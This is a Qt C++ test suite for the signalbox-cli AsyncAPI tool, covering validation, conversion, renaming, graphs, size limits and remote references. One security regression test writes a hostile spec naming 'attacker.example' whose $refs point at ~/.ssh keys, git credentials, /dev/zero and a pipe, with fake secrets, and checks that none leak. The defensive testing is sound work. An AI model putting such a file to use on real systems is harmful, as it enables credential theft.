// SPDX-FileCopyrightText: 2026 Signalbox contributors
// SPDX-License-Identifier: Apache-2.0
#include "serverprocess.h"
#include "testconfig.h"

#include <QDir>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>
#include <sys/types.h>

using namespace Qt::Literals::StringLiterals;

class TestCli : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanupTestCase();
    void validFile();
    void errorsInCompilerFormat();
    void jsonFormat();
    void unreadableFile();
    void usage();
    void helpAndVersion();
    void graph();
    void convert_data();
    void convert();
    void rename();

    // File references (audit C1, H1) and the size option (L8).
    void referencesDoNotLeakLocalFiles();
    void allowRefsOutside_data();
    void allowRefsOutside();
    void allowRefsOutsideReachesProbe();
    void allowRefsOutsideNeedsAFolder();
    void maxSizeIsChecked_data();
    void maxSizeIsChecked();
    void probeRefusesAHugeFile();

    // Remote references (issue 13).
    void fetchRemote_data();
    void fetchRemote();
    void fetchRemoteReachesProbe();
    void fetchTimeoutIsChecked();

private:
    struct Run
    {
        int status;
        QString out;
        QString err;
    };
    Run run(const QStringList &args);
    QString write(const QString &name, const QByteArray &text);
    /** A service folder referring to a sibling "common" folder: service/api.yaml and common/schemas.yaml. */
    QString writeSiblingProject();
    /** The test server for remote references, started on first use; its port. */
    int remoteServer();
    QTemporaryDir m_dir;
    QProcess m_remoteServer;
    int m_remotePort = 0;
};

TestCli::Run TestCli::run(const QStringList &args)
{
    QProcess p;
    // Remote documents are kept in the test's own folder, not the user's cache.
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(u"XDG_CACHE_HOME"_s, m_dir.filePath(u"cache"_s));
    p.setProcessEnvironment(env);
    p.start(QStringLiteral(SIGNALBOX_CLI_PATH), args);
    if (!p.waitForFinished(30000))
        return {-1, {}, {}};
    return {p.exitCode(), QString::fromUtf8(p.readAllStandardOutput()), QString::fromUtf8(p.readAllStandardError())};
}

QString TestCli::write(const QString &name, const QByteArray &text)
{
    QFile f(m_dir.filePath(name));
    if (f.open(QIODevice::WriteOnly))
        f.write(text);
    return f.fileName();
}

void TestCli::initTestCase()
{
    QVERIFY(m_dir.isValid());
}

void TestCli::cleanupTestCase()
{
    Signalbox::Test::stopServer(m_remoteServer);
}

void TestCli::validFile()
{
    const Run r = run(
        {QStringLiteral("validate"), QStringLiteral(SIGNALBOX_SOURCE_DIR "/resources/examples/harbour-cranes.yaml")});
    QCOMPARE(r.status, 0);
    QVERIFY(r.out.isEmpty());
}

void TestCli::errorsInCompilerFormat()
{
    const QString path =
        write(QStringLiteral("bad.yaml"), "asyncapi: 3.0.0\ninfo:\n  title: T\n  version: '1'\n  ünknown: 1\n");
    const Run r = run({QStringLiteral("validate"), path});
    QCOMPARE(r.status, 1);
    QCOMPARE(r.out,
             path + QStringLiteral(":5:3: error: Property 'ünknown' is not allowed here [schema.unknown-property]\n"));
}

void TestCli::jsonFormat()
{
    const QString path = write(QStringLiteral("two.yaml"), "asyncapi: 3.0.0\ninfo:\n  version: 1\n");
    const Run r = run({QStringLiteral("validate"), QStringLiteral("--format"), QStringLiteral("json"), path});
    QCOMPARE(r.status, 1);
    const QStringList lines = r.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 2);
    for (const QString &line : lines) {
        const QJsonObject o = QJsonDocument::fromJson(line.toUtf8()).object();
        QCOMPARE(o.value(QLatin1String("file")).toString(), path);
        QCOMPARE(o.value(QLatin1String("severity")).toString(), QStringLiteral("error"));
        QVERIFY(o.value(QLatin1String("code")).toString().startsWith(QLatin1String("schema.")));
        QVERIFY(o.value(QLatin1String("line")).toInt() >= 2);
        QVERIFY(o.contains(QLatin1String("pointer")));
    }
}

void TestCli::unreadableFile()
{
    const Run r = run({QStringLiteral("validate"), m_dir.filePath(QStringLiteral("missing.yaml"))});
    QCOMPARE(r.status, 2);
    QVERIFY(r.err.contains(QLatin1String("missing.yaml")));
    // An unreadable file wins over a file with errors.
    const QString bad = write(QStringLiteral("bad2.yaml"), "asyncapi: 3.0.0\n");
    QCOMPARE(run({QStringLiteral("validate"), bad, m_dir.filePath(QStringLiteral("missing.yaml"))}).status, 2);
}

void TestCli::usage()
{
    QCOMPARE(run({}).status, 2);
    QCOMPARE(run({QStringLiteral("validate")}).status, 2);
    QCOMPARE(run({QStringLiteral("frobnicate"), QStringLiteral("x")}).status, 2);
    QCOMPARE(run({QStringLiteral("validate"), QStringLiteral("--format"), QStringLiteral("xml"), QStringLiteral("x")})
                 .status,
             2);
    QCOMPARE(run({QStringLiteral("--no-such-option")}).status, 2);
}

void TestCli::helpAndVersion()
{
    const Run help = run({QStringLiteral("--help")});
    QCOMPARE(help.status, 0);
    QVERIFY(help.out.contains(QLatin1String("validate")));
    const Run version = run({QStringLiteral("--version")});
    QCOMPARE(version.status, 0);
    QVERIFY(version.out.startsWith(QLatin1String("signalbox-cli ")));
}

void TestCli::convert_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QStringList>("options");
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("err");
    const QByteArray v2 = "# lights\nasyncapi: 2.6.0\ninfo: {title: T, version: '1'}\nchannels:\n  c:\n    publish:\n"
                          "      operationId: p\n      message: {payload: {type: string}}\n";
    QTest::newRow("2.6-to-3.0") << v2 << QStringList{} << 0 << u"# lights\nasyncapi: 3.0.0\n"_s << QString();
    QTest::newRow("to-3.1-as-client") << v2 << QStringList{u"--to"_s, u"3.1"_s, u"--point-of-view"_s, u"client"_s} << 0
                                      << u"    action: send\n"_s << QString();
    QTest::newRow("json-stays-json") << QByteArray(R"({"asyncapi": "2.0.0", "info": {"title": "T", "version": "1"},
        "channels": {"c": {"subscribe": {"message": {"payload": {"type": "string"}}}}}})")
                                     << QStringList{} << 0 << u"\"asyncapi\": \"3.0.0\""_s << QString();
    QTest::newRow("with-errors") << QByteArray("asyncapi: 2.6.0\ninfo: {title: T}\nchannels: {}\n") << QStringList{}
                                 << 1 << u"asyncapi: 3.0.0\n"_s << u"Missing required property 'version'"_s;
    QTest::newRow("not-2x") << QByteArray("asyncapi: 3.0.0\ninfo: {title: T, version: '1'}\nchannels: {}\n")
                            << QStringList{} << 2 << QString() << u"3.0.0"_s;
    QTest::newRow("bad-target") << v2 << QStringList{u"--to"_s, u"4.0"_s} << 2 << QString() << u"usage"_s;
}

void TestCli::convert()
{
    QFETCH(QByteArray, input);
    QFETCH(QStringList, options);
    QFETCH(int, status);
    QFETCH(QString, out);
    QFETCH(QString, err);
    const QString path = write(QStringLiteral("convert.yaml"), input);
    const Run r = run(QStringList{u"convert"_s, path} + options);
    QCOMPARE(r.status, status);
    QVERIFY2(r.out.contains(out), qPrintable(r.out));
    QVERIFY2(r.err.contains(err), qPrintable(r.err));
    if (status == 0) { // the result is a valid 3.x document
        const QString converted = write(QStringLiteral("converted.yaml"), r.out.toUtf8());
        const Run check = run({u"validate"_s, converted});
        QVERIFY2(check.status == 0, qPrintable(check.out));
    }
}

void TestCli::rename()
{
    // The rename project (main.yaml, other.yaml, schemas/common.yaml) in a folder of its own.
    const QString data = QStringLiteral(SIGNALBOX_SOURCE_DIR "/tests/data/rename/");
    QDir(m_dir.path()).mkpath(u"rename/schemas"_s);
    for (const QString &f : {u"main.yaml"_s, u"other.yaml"_s, u"schemas/common.yaml"_s})
        QVERIFY(QFile::copy(data + f, m_dir.filePath(u"rename/"_s + f)));
    const QString main = m_dir.filePath(u"rename/main.yaml"_s);
    const QString common = m_dir.filePath(u"rename/schemas/common.yaml"_s);
    auto read = [](const QString &path) {
        QFile f(path);
        return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
    };
    const QByteArray mainBefore = read(main);

    // A diff of each file; nothing written.
    Run r = run({u"rename"_s, main, u"/components/messages/Said"_s, u"Spoken"_s});
    QCOMPARE(r.status, 0);
    QVERIFY2(r.out.startsWith(u"--- "_s + main + u"\n+++ "_s + main + u"\n@@ "_s), qPrintable(r.out));
    QVERIFY(r.out.contains(
        u"-        $ref: '#/components/messages/Said'\n+        $ref: '#/components/messages/Spoken'\n"_s));
    QVERIFY(r.out.contains(u"-    Said:\n+    Spoken:\n"_s));
    QCOMPARE(read(main), mainBefore);

    // A shared file's element: the files that refer to it (the main one, and other.yaml beside it).
    r = run({u"rename"_s, main, u"schemas/common.yaml#/components/schemas/Text"_s, u"Words"_s, u"--write"_s});
    QCOMPARE(r.status, 0);
    QVERIFY2(r.err.contains(u"files written: 3, places changed: 4"_s), qPrintable(r.err));
    QVERIFY(read(main).contains("schemas/common.yaml#/components/schemas/Words"));
    QVERIFY(read(m_dir.filePath(u"rename/other.yaml"_s)).contains("schemas/common.yaml#/components/schemas/Words"));
    QVERIFY(read(common).contains("    Words:\n"));
    QCOMPARE(run({u"validate"_s, main}).status, 0);

    // A byte order mark stays where it was.
    const QString bom = write(u"rename/bom.yaml"_s, "\xEF\xBB\xBF"
                                                    "asyncapi: 3.0.0\r\ninfo: {title: T, version: '1'}\r\n"
                                                    "components:\r\n  schemas:\r\n    A: {type: string}\r\n");
    QCOMPARE(run({u"rename"_s, bom, u"/components/schemas/A"_s, u"B"_s, u"--write"_s}).status, 0);
    QCOMPARE(read(bom), QByteArray("\xEF\xBB\xBF"
                                   "asyncapi: 3.0.0\r\ninfo: {title: T, version: '1'}\r\n"
                                   "components:\r\n  schemas:\r\n    B: {type: string}\r\n"));

    // Refused: exit 1 with the reason; usage: exit 2.
    r = run({u"rename"_s, main, u"/channels/room~1{roomId}/messages/said"_s, u"left"_s});
    QCOMPARE(r.status, 1);
    QVERIFY2(r.err.contains(u"is taken"_s), qPrintable(r.err));
    QCOMPARE(run({u"rename"_s, main, u"/components/messages/Said"_s, u"no good"_s}).status, 1);
    QCOMPARE(run({u"rename"_s, main, u"/components/messages/Said"_s}).status, 2);
    QCOMPARE(run({u"rename"_s, main, u"components"_s, u"X"_s}).status, 2);
    QCOMPARE(run({u"rename"_s, m_dir.filePath(u"none.yaml"_s), u"/servers/a"_s, u"b"_s}).status, 2);
}

void TestCli::graph()
{
    const QString example = QStringLiteral(SIGNALBOX_SOURCE_DIR "/resources/examples/harbour-cranes.yaml");
    const Run json = run({QStringLiteral("graph"), example, QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(json.status, 0);
    const QJsonObject o = QJsonDocument::fromJson(json.out.toUtf8()).object();
    QVERIFY(o.value(QLatin1String("nodes")).toArray().size() >= 10);
    QVERIFY(o.value(QLatin1String("edges")).toArray().size() >= 8);
    for (const char *format : {"svg", "png", "dot"}) {
        const QString out = m_dir.filePath(QStringLiteral("graph.") + QLatin1String(format));
        const Run r = run({QStringLiteral("graph"), example, QStringLiteral("--format"), QLatin1String(format),
                           QStringLiteral("-o"), out});
        QCOMPARE(r.status, 0);
        QVERIFY(QFileInfo(out).size() > 500);
    }
    QCOMPARE(run({QStringLiteral("graph"), example, QStringLiteral("--format"), QStringLiteral("gif")}).status, 2);
    QCOMPARE(run({QStringLiteral("graph"), m_dir.filePath(QStringLiteral("none.yaml"))}).status, 2);
}

namespace {

// Fake secrets of the audit's C1 scenario, in our own temporary "home".
constexpr char FakeKey[] = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAFAKEKEYFORTESTS";
constexpr char FakeToken[] = "https://alice:ghp_FAKETOKEN0123456789@github.com";

/** A "command" column with each command that loads a document and what it refers to. */
void loadingCommands()
{
    QTest::addColumn<QStringList>("command");
    QTest::newRow("validate") << QStringList{u"validate"_s};
    QTest::newRow("export-html") << QStringList{u"export-html"_s, u"-o"_s, u"-"_s};
    QTest::newRow("graph") << QStringList{u"graph"_s, u"--format"_s, u"json"_s};
}

} // namespace

QString TestCli::writeSiblingProject()
{
    QDir(m_dir.path()).mkpath(u"siblings/service"_s);
    QDir(m_dir.path()).mkpath(u"siblings/common"_s);
    write(u"siblings/common/schemas.yaml"_s, "greeting:\n  type: object\n  properties:\n    text: {type: string}\n");
    return write(u"siblings/service/api.yaml"_s, R"(asyncapi: 3.0.0
info: {title: Siblings, version: '1'}
servers:
  local: {host: '127.0.0.1:1', protocol: ws}
channels:
  chat:
    address: /chat
    messages:
      hello:
        name: hello
        payload:
          $ref: '../common/schemas.yaml#/greeting'
operations:
  greet: {action: receive, channel: {$ref: '#/channels/chat'}}
)");
}

void TestCli::referencesDoNotLeakLocalFiles()
{
    QDir home(m_dir.filePath(u"victimhome"_s));
    QVERIFY(home.mkpath(u".ssh"_s) && home.mkpath(u"Downloads"_s));
    write(u"victimhome/.ssh/id_ed25519"_s, QByteArray(FakeKey) + '\n');
    write(u"victimhome/.git-credentials"_s, QByteArray(FakeToken) + '\n');
    QVERIFY(::mkfifo(QFile::encodeName(home.filePath(u"Downloads/pipe.yaml"_s)).constData(), 0600) == 0);
    const QString evil = write(u"victimhome/Downloads/evil.yaml"_s, (R"(asyncapi: 3.0.0
info:
  title: Innocent looking API
  version: '1.0'
servers:
  prod: {host: 'attacker.example:443', protocol: wss}
channels:
  chat:
    address: /chat
    messages:
      hello:
        payload: {type: object}
        examples:
          - name: key
            payload: {$ref: '../.ssh/id_ed25519'}
          - name: token
            payload: {$ref: ')" + home.filePath(u".git-credentials"_s).toUtf8() +
                                                                     R"('}
          - name: zero
            payload: {$ref: '/dev/zero'}
          - name: pipe
            payload: {$ref: './pipe.yaml'}
        bindings:
          ws:
            $ref: '../.git-credentials'
operations:
  send: {action: send, channel: {$ref: '#/channels/chat'}}
)"));
    const auto leaks = [](const QString &text) {
        return text.contains(u"FAKEKEY"_s) || text.contains(u"OPENSSH"_s) || text.contains(u"ghp_FAKETOKEN"_s);
    };
    const Run validate = run({u"validate"_s, evil});
    QCOMPARE(validate.status, 1);
    QVERIFY2(!leaks(validate.out + validate.err), qPrintable(validate.out));
    QCOMPARE(validate.out.count(u"[ref.outside-folder]"_s), 4); // key, token, /dev/zero, bindings
    QCOMPARE(validate.out.count(u"[ref.not-a-file]"_s), 1);
    QVERIFY(validate.out.contains(evil + u":15:"_s)); // on the $ref's line

    const QString html = m_dir.filePath(u"evil.html"_s);
    const Run exported = run({u"export-html"_s, evil, u"-o"_s, html});
    QCOMPARE(exported.status, 1); // written, with the errors listed
    QFile page(html);
    QVERIFY(page.open(QIODevice::ReadOnly));
    const QString content = QString::fromUtf8(page.readAll());
    QVERIFY(content.contains(u"Innocent looking API"_s));
    QVERIFY(!leaks(content));
    QVERIFY(!leaks(exported.err));

    const Run graph = run({u"graph"_s, evil, u"--format"_s, u"json"_s});
    QCOMPARE(graph.status, 0);
    QVERIFY(!leaks(graph.out + graph.err));
}

void TestCli::allowRefsOutside_data()
{
    loadingCommands();
}

void TestCli::allowRefsOutside()
{
    QFETCH(QStringList, command);
    const QString api = writeSiblingProject();
    const QString common = m_dir.filePath(u"siblings/common"_s);
    const Run refused = run(command + QStringList{api});
    const Run allowed = run(command + QStringList{u"--allow-refs-outside"_s, common, api});
    const Run twice = run(command + QStringList{u"--allow-refs-outside"_s, m_dir.filePath(u"siblings/service"_s),
                                                u"--allow-refs-outside"_s, common + u"/../common"_s, api});
    if (command.first() == u"graph"_s) {
        // The graph is drawn either way: signalbox-cli-graph takes the flag (an unknown option would be 2).
        QCOMPARE(refused.status, 0);
        QCOMPARE(allowed.status, 0);
        QCOMPARE(twice.status, 0);
        QVERIFY(allowed.out.contains(u"hello"_s));
        return;
    }
    QCOMPARE(refused.status, 1);
    QVERIFY2(QString(refused.out + refused.err).contains(u"ref.outside-folder"_s),
             qPrintable(refused.out + refused.err));
    QVERIFY2(allowed.status == 0, qPrintable(allowed.out + allowed.err));
    QVERIFY(!QString(allowed.out + allowed.err).contains(u"ref.outside-folder"_s));
    QCOMPARE(twice.status, 0);
}

void TestCli::allowRefsOutsideReachesProbe()
{
    // signalbox-cli runs signalbox-cli-probe with the same arguments: the flag must reach it. The
    // probe says how many errors the document has before it connects (here to a closed port).
    const QString api = writeSiblingProject();
    const QString url = u"ws://127.0.0.1:1/chat"_s; // nothing listens on port 1
    const QRegularExpression hasErrors(u"has \\d+ error"_s);
    const QStringList probe{u"probe"_s, api, u"--url"_s, url, u"--timeout"_s, u"3"_s};
    const Run refused = run(probe);
    QVERIFY2(refused.err.contains(hasErrors), qPrintable(refused.err));
    const Run allowed = run(probe + QStringList{u"--allow-refs-outside"_s, m_dir.filePath(u"siblings/common"_s)});
    QVERIFY2(!allowed.err.contains(hasErrors), qPrintable(allowed.err));
    QVERIFY(allowed.status != -1);
    const Run notAFolder = run(probe + QStringList{u"--allow-refs-outside"_s, m_dir.filePath(u"nope"_s)});
    QCOMPARE(notAFolder.status, 2);
    QVERIFY(notAFolder.err.contains(u"--allow-refs-outside"_s));
}

void TestCli::allowRefsOutsideNeedsAFolder()
{
    const QString api = writeSiblingProject();
    for (const QString &dir : {m_dir.filePath(u"nope"_s), api}) {
        for (const QString &command : {u"validate"_s, u"export-html"_s, u"graph"_s}) {
            const Run r = run({command, u"--allow-refs-outside"_s, dir, api});
            QCOMPARE(r.status, 2);
            QVERIFY2(r.err.contains(u"--allow-refs-outside"_s), qPrintable(r.err));
        }
    }
}

void TestCli::maxSizeIsChecked_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<int>("status");
    for (const char *bad : {"1e30", "nan", "-1", "0", "inf", "-inf", "abc", "4096"})
        QTest::newRow(bad) << QString::fromLatin1(bad) << 2;
    QTest::newRow("empty") << QString() << 2;
    QTest::newRow("tiny") << u"0.0001"_s << 1; // 104 bytes: the document is larger
    QTest::newRow("fraction") << u"0.5"_s << 0;
    QTest::newRow("largest") << u"4095"_s << 0;
}

void TestCli::maxSizeIsChecked()
{
    QFETCH(QString, value);
    QFETCH(int, status);
    const QString example = QStringLiteral(SIGNALBOX_SOURCE_DIR "/resources/examples/harbour-cranes.yaml");
    for (const QString &command : {u"validate"_s, u"export-html"_s}) {
        QStringList args{command, u"--max-size-mb"_s, value, example};
        if (command == u"export-html"_s)
            args << u"-o"_s << m_dir.filePath(u"size.html"_s);
        const Run r = run(args);
        QCOMPARE(r.status, status);
        if (status == 2)
            QVERIFY2(r.err.contains(u"--max-size-mb"_s), qPrintable(r.err));
        if (status == 1)
            QVERIFY2(QString(r.out + r.err).contains(u"document.too-large"_s), qPrintable(r.out + r.err));
    }
}

void TestCli::probeRefusesAHugeFile()
{
    // Audit L9: the probe read its document without a bound, unlike the other commands.
    const QString huge = m_dir.filePath(u"huge.yaml"_s);
    {
        QFile f(huge);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.resize(qint64(33) * 1024 * 1024)); // sparse
    }
    const Run r = run({u"probe"_s, huge, u"--url"_s, u"ws://127.0.0.1:1/"_s, u"--timeout"_s, u"1"_s});
    QCOMPARE(r.status, 2);
    QVERIFY2(r.err.contains(u"huge.yaml"_s) && r.err.contains(u"32 MB"_s), qPrintable(r.err));
    QVERIFY(QFile::remove(huge));
}

int TestCli::remoteServer()
{
    if (m_remotePort == 0)
        m_remotePort = Signalbox::Test::startPythonServer(
            m_remoteServer, QStringLiteral(SIGNALBOX_SOURCE_DIR "/tests/asyncapi/remote_refs_server.py"));
    return m_remotePort;
}

void TestCli::fetchRemote_data()
{
    loadingCommands();
}

void TestCli::fetchRemote()
{
    QFETCH(QStringList, command);
    const int port = remoteServer();
    QVERIFY2(port > 0, "the test server did not start");
    // The remote schema wants an integer id; the example gives a string. The $ref is on line 11.
    const QByteArray head = "asyncapi: 3.0.0\ninfo:\n  title: T\n  version: '1'\nchannels:\n  c:\n    address: c\n"
                            "    messages:\n      m:\n        payload:\n          $ref: 'http://127.0.0.1:" +
                            QByteArray::number(port);
    const QByteArray example = "'\n        examples:\n          - payload: {id: 'not a number'}\n";
    const QString good = write(u"remote-good.yaml"_s, head + "/good.yaml" + example);
    const QString missing = write(u"remote-missing.yaml"_s, head + "/missing.yaml" + example);
    const bool validate = command.first() == u"validate"_s;

    // Off by default: a warning on the reference's line, and the document is not called invalid.
    const Run off = run(command + QStringList{good});
    QCOMPARE(off.status, 0);
    if (validate)
        QVERIFY2(off.out.contains(u"remote-good.yaml:11:"_s) && off.out.contains(u" warning: "_s) &&
                     off.out.contains(u"[ref.remote-not-fetched]"_s),
                 qPrintable(off.out));

    const Run on = run(command + QStringList{u"--fetch-remote"_s, good});
    if (command.first() == u"graph"_s) {
        QCOMPARE(on.status, 0); // drawn either way; the flag is known to signalbox-cli-graph
    } else {
        QCOMPARE(on.status, 1); // the fetched schema finds the example's error
        QVERIFY2(QString(on.out + on.err).contains(u"message.example-invalid"_s), qPrintable(on.out + on.err));
    }
    QVERIFY(QDir(m_dir.filePath(u"cache/Signalbox/remote-refs"_s)).entryList(QDir::Files).size() >= 1);

    const Run failed = run(command + QStringList{u"--fetch-remote"_s, missing});
    if (validate) {
        QCOMPARE(failed.status, 1);
        QVERIFY2(failed.out.contains(u"remote-missing.yaml:11:"_s) && failed.out.contains(u" error: "_s) &&
                     failed.out.contains(u"HTTP 404"_s) && failed.out.contains(u"[ref.fetch-failed]"_s),
                 qPrintable(failed.out));
    } else {
        QVERIFY(failed.status != 2);
    }
}

void TestCli::fetchRemoteReachesProbe()
{
    // signalbox-cli runs signalbox-cli-probe with the same arguments: the flag must reach it. The
    // probe says how many errors the document has before it connects (here to a closed port).
    const int port = remoteServer();
    QVERIFY2(port > 0, "the test server did not start");
    const QString api = write(u"remote-probe.yaml"_s,
                              "asyncapi: 3.0.0\ninfo:\n  title: T\n  version: '1'\nchannels:\n  c:\n"
                              "    address: c\n    messages:\n      m:\n        payload:\n"
                              "          $ref: 'http://127.0.0.1:" +
                                  QByteArray::number(port) +
                                  "/good.yaml'\n        examples:\n          - payload: {id: 'not a number'}\n");
    const QRegularExpression hasErrors(u"has \\d+ error"_s);
    const QStringList probe{u"probe"_s, api, u"--url"_s, u"ws://127.0.0.1:1/chat"_s, u"--timeout"_s, u"3"_s};
    const Run off = run(probe);
    QVERIFY2(!off.err.contains(hasErrors), qPrintable(off.err));
    const Run on = run(probe + QStringList{u"--fetch-remote"_s});
    QVERIFY2(on.err.contains(hasErrors), qPrintable(on.err));
}

void TestCli::fetchTimeoutIsChecked()
{
    const QString api = write(u"plain.yaml"_s, "asyncapi: 3.0.0\ninfo:\n  title: T\n  version: '1'\n");
    for (const QString &value : {u"0"_s, u"-1"_s, u"soon"_s, u"100000"_s}) {
        const Run r = run({u"validate"_s, u"--fetch-remote"_s, u"--fetch-timeout"_s, value, api});
        QCOMPARE(r.status, 2);
        QVERIFY2(r.err.contains(u"--fetch-timeout"_s), qPrintable(r.err));
    }
    QCOMPARE(run({u"validate"_s, u"--fetch-remote"_s, u"--fetch-timeout"_s, u"2.5"_s, api}).status, 0);
}

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
